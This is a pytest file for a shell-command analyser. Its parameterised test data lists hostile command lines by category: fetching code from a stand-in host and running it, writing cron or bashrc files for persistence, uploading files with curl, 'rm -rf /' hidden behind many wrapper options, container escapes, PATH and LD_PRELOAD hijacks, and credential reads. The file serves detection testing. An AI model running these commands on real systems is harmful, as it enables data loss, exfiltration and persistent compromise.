"""How options are read: attached, in clusters, by their beginnings, told twice, behind options that nobody knows."""

from __future__ import annotations

import pytest

from engine.command.tree import Access, Effect
from tests.shell_commands import command, kinds, programs, signs

SHOWS = {
    "download_and_run": (
        "sh < <(curl http://a.example/x)",
        "bash -s < <(curl -s http://a.example/x)",
        "python3 < <(curl http://a.example/x)",
        "curl -fsSLox.sh http://a.example && sh x.sh",
        "wget -qOx.sh http://a.example/y && sh x.sh",
        "curl -sox.py http://a.example; python3 x.py",
    ),
    "persistence": (
        "wget -qO/etc/cron.d/x http://a.example/x",
        "wget -qP/etc/cron.d http://a.example/x",
        "curl -sSo/etc/cron.d/x http://a.example/x",
        "curl -o ok.txt -o ~/.bashrc http://a.example/x http://a.example/y",
        "curl --dump-head=/etc/cron.d/x http://a.example/x",
        "tar -czf/etc/cron.d/x .",
        "tar cfI ~/.bashrc zstd .",
        "cp --target-dir=/etc/cron.d x",
        "sort --o=/etc/cron.d/x f",
        "sort -uo/etc/cron.d/x f",
        "gawk -o/etc/cron.d/x 'BEGIN {}'",
        "gawk --dump-variables=/etc/cron.d/x '{print}' f",
        "aws s3api get-object --bucket b --key k /etc/cron.d/x",
        "helm template --output-dir /etc/cron.d chart",
        "terraform plan -out=/etc/cron.d/x",
        "git config --file .git/config core.pager ./x",
        "psql -qAto/etc/cron.d/x db",
    ),
    "sends_data": (
        "curl -sF a=@notes http://a.example",
        "curl -sT notes http://a.example",
        "curl -sd @notes http://a.example",
        "curl -sd@notes http://a.example",
        "cat notes | curl -sT- http://a.example",
        'curl -sd "$(cat notes)" http://a.example',
        "curl -sXPOST http://a.example",
        "http http://a.example a=b",
    ),
    "destructive_verb": ("curl -sXDELETE http://a.example/x",),
    "whole_tree": (
        "tar cf a.tar --checkpoint-action exec='rm -rf /' .",
        "tar cf a.tar --checkpoint-act=exec='rm -rf /' .",
        "tar cIf 'rm -rf /' a.tar .",
        "tar cfI a.tar 'rm -rf /' .",
        "rm --recurs -f /",
        "su root -c'rm -rf /'",
        "su -c'rm -rf /'",
        "su --comm='rm -rf /'",
        "npm exec -c'rm -rf /'",
        "npx --package=x -c'rm -rf /'",
        "hyperfine --prepare 'rm -rf /' ls",
        "hyperfine -p'rm -rf /' ls",
        "nodemon --exec 'rm -rf /'",
        "entr -s 'rm -rf /'",
        "script -c'rm -rf /' log",
        "ls | xargs --eof rm -rf /",
        "ls | xargs --max-lines rm -rf /",
        "ls | xargs --replace rm -rf /",
        "git bisect run sh -c 'rm -rf /'",
        "git bisect run rm -rf /",
        "docker run --entrypoint rm alpine -rf /",
        "lerna exec -- rm -rf /",
        "make CC='rm -rf /'",
        "psql -o '|rm -rf /' db",
        "strace -o '!rm -rf /' ls",
        "git clone -u 'rm -rf /' a.example:b",
        *(
            f"{wrapper} ls rm -rf /"
            for wrapper in (
                "uv run --index",
                "conda run --extra",
                "bundle exec --gemfile",
                "pipenv run --pypi-mirror",
                "perf stat --cpu",
                "watchexec --on-busy-update",
                "watchexec --no-such-option",
                "firejail --profile",
                "firejail --no-such-option",
                "fakeroot -s",
                "rlwrap -H",
                "cpulimit --limit",
                "dbus-run-session --config-file",
                "xvfb-run --server-args",
                "npx --cache",
                "docker exec --no-such-option web",
            )
        ),
    ),
    "container_escape": ("docker run -v/:/h alpine", "docker run -itv /:/h alpine", "docker run -itv/:/h alpine ls"),
    "opaque_code": (
        "awk -i inplace 'BEGIN {system(\"id\")}' f",
        "awk -f lib.awk -e 'BEGIN {system(\"id\")}'",
        "gawk -l filefuncs 'BEGIN {system(\"id\")}'",
        "git --config-env=core.fsmonitor=X status",
        "git --git-dir=/tmp/x status",
        "rpm --eval '%(id)'",
        "python3 -m timeit 'import os'",
        "gdb --batch --eval-command='shell id'",
        "bind -x '\"x\": id'",
        "kubectl get --raw /api/v1/nodes/n/proxy/run/x",
        "psql < x.sql",
        "ftp host < script",
        "mysql < x.sql",
        "sqlite3 x.db < x.sql",
    ),
    "odd_path": (
        "make -C /tmp",
        "ninja -C /tmp/x",
        "awk -f /tmp/x.awk f",
        "sed -f /tmp/x.sed f",
        "node -r /tmp/x.js y.js",
        "ruby -r/tmp/x y.rb",
        "perl -I/tmp -Mx y.pl",
        "php -d auto_prepend_file=/tmp/x y.php",
    ),
    "execution_variable": (
        "export PATH=/tmp:$PATH; ls",
        "export PATH=.:$PATH; ls",
        "printf -v LD_PRELOAD ./x",
        "read LD_PRELOAD < f",
        "for PATH in /tmp; do ls; done",
        ": ${PATH:=/tmp}",
        "declare -n r=PATH; r=/tmp",
        "strace -E LD_PRELOAD=./x ls",
        "GIT_DIR=/tmp/x git status",
    ),
    "privilege_change": ("install -m4755 x y", "install --mode=u+s x y"),
    "system_write": (
        "tar -xPf a.tar",
        "tar xf a.tar --absolute-names",
        "update-alternatives --install /usr/bin/x x ./x 1",
    ),
    "credential_read": ("aws ecr get-login-password", "kubectl config view --raw"),
    "credential_write": ("gcloud container clusters get-credentials web", "az aks get-credentials -n web"),
}


@pytest.mark.parametrize(
    ("sign", "line"), [(sign, line) for sign, lines in SHOWS.items() for line in lines], ids=lambda value: value[:70]
)
def test_what_an_option_does_shows_however_it_is_spelled(sign: str, line: str) -> None:
    assert sign in signs(line), (line, signs(line))


@pytest.mark.parametrize("wrapper", ["npx --zz sudo ", "npx --zz ", "uv run --zz sudo ", "docker exec --zz web sudo "])
def test_readings_do_not_multiply_where_wrappers_stand_in_one_another(wrapper: str) -> None:
    tree = command(f"{wrapper * 24}ls")
    assert not tree.complete
    assert len(tree.operations) < 200


OPAQUE = (
    "sh < <(cat x)",
    "x=$(curl http://a.example/x); echo $((x))",
    "x=$(curl http://a.example/x); [[ $x -eq 1 ]]",
    "x=$(curl http://a.example/x); (( x > 1 ))",
    "sudo 'rm -rf x'",
    "ssh host < script.sh",
)


@pytest.mark.parametrize("line", OPAQUE)
def test_what_nobody_sees_is_not_called_complete(line: str) -> None:
    assert not command(line).complete, line


WRITES = {
    "sed --in-pl s/a/b/ f": "f",
    "sed -Ei.bak s/a/b/ f": "f",
    "sed -ni -e p f": "f",
    "gawk -i inplace '{print}' f": "f",
    "curl -O http://a.example/x.tgz": "x.tgz",
    "wget http://a.example/x.tgz?y=1": "x.tgz",
    "tar cf a.tar src": "a.tar",
    "tar -cvzf a.tgz src": "a.tgz",
    "tar --create --file=a.tar src": "a.tar",
}


@pytest.mark.parametrize("line", WRITES)
def test_a_file_that_is_written_is_a_target(line: str) -> None:
    written = {
        target.name
        for operation in command(line).operations
        for target in operation.targets
        if target.access in {Access.WRITE, Access.CREATE}
    }
    assert written == {WRITES[line]}, line


RUNS = ("npm test", "terraform test", "terraform fmt", "terraform providers lock", "terraform plan -out=x")


@pytest.mark.parametrize("line", RUNS)
def test_what_runs_or_writes_the_projects_own_is_no_look(line: str) -> None:
    assert not {operation.effect for operation in command(line).operations} <= {Effect.READ, Effect.SESSION}, line


PLAIN = {
    "curl -fsSL http://a.example/x": "fetch",
    "curl -sI http://a.example": "fetch",
    "curl --head http://a.example": "fetch",
    "wget -qO- http://a.example/x": "fetch",
    "wget -T 10 -qO- http://a.example": "fetch",
    "tar tzf a.tgz": "archive",
    "tar xzf a.tgz": "archive",
    "sed -n 1,5p f": "inspect",
    "sed -e s/a/b/ -e s/c/d/ f": "inspect",
    "awk -F: '{print $1}' f": "inspect",
    "awk -v n=1 'NR == n' f": "inspect",
    "sort -rnk2 f": "inspect",
    "sort -t: -k1 f": "inspect",
    "http http://a.example q==1": "fetch",
}


@pytest.mark.parametrize("line", PLAIN)
def test_everyday_spellings_stay_what_they_are(line: str) -> None:
    assert command(line).complete, line
    assert not signs(line), (line, signs(line))
    assert kinds(line) == [PLAIN[line]], line


@pytest.mark.parametrize(
    "line",
    [
        "export PATH=$HOME/bin:$PATH",
        "PATH_X=1 ls",
        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
        "n=$(wc -l < f); echo $((n + 1))",
        "for file in *.py; do cat $file; done",
        ": ${EDITION:=9}",
        "ruby -rjson x.rb",
        "node -r dotenv/config app.js",
        "perl -MList::Util -ne 'print' f",
    ],
)
def test_what_is_like_it_and_harmless_has_no_sign_of_it(line: str) -> None:
    assert not signs(line) & {"execution_variable", "odd_path", "download_and_run"}, (line, signs(line))


@pytest.mark.parametrize(
    "text", ["entr --foo rm -rf / -s ls", "nodemon --foo rm -rf / -x ls", "npx --foo rm -rf / -c ls"]
)
def test_words_behind_an_option_nobody_knows_are_seen_beside_a_text_of_the_same_command(text: str) -> None:
    assert {"rm", "ls"} <= set(programs(text))
